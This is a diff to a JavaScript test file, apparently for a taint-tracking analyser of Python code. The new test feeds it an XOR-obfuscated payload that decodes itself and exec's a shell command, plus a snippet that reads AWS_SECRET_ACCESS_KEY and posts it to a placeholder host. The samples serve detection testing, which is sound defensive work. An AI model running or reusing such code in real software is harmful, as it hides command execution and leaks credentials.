@@ -119,3 +119,12 @@ test('generator arguments, filtered comprehensions and builtins aliased with set
   const g = await facts("x = ''.join(c for c in ['a', 'b', 'c'] if 0)\nexec('import os; os.system(\"' + x + 'id\")')\n");
   assert.ok(g.commands.some((c) => c.cmd === 'id'));
 });
+
+test('lists built with append in a decoding loop fold, and appended taint follows the list', async () => {
+  const payload = "import os; os.system('id')";
+  const enc = [...payload].map((c) => c.charCodeAt(0) ^ 7);
+  const f = await facts(`data = ${JSON.stringify(enc)}\nout = []\nfor b in data:\n    out.append(chr(b ^ 7))\nexec(''.join(out))\n`);
+  assert.ok(f.commands.some((c) => c.cmd === 'id' && c.line === 5));
+  const g = await facts("import os, requests\nparts = []\nparts.append(os.environ['AWS_SECRET_ACCESS_KEY'])\nrequests.post('https://x.example.invalid', data=parts)\n");
+  assert.ok(g.sinks.some((s) => s.sources.some((l) => l.includes('AWS_SECRET_ACCESS_KEY'))), JSON.stringify(g.sinks.map((s) => s.sources)));
+});
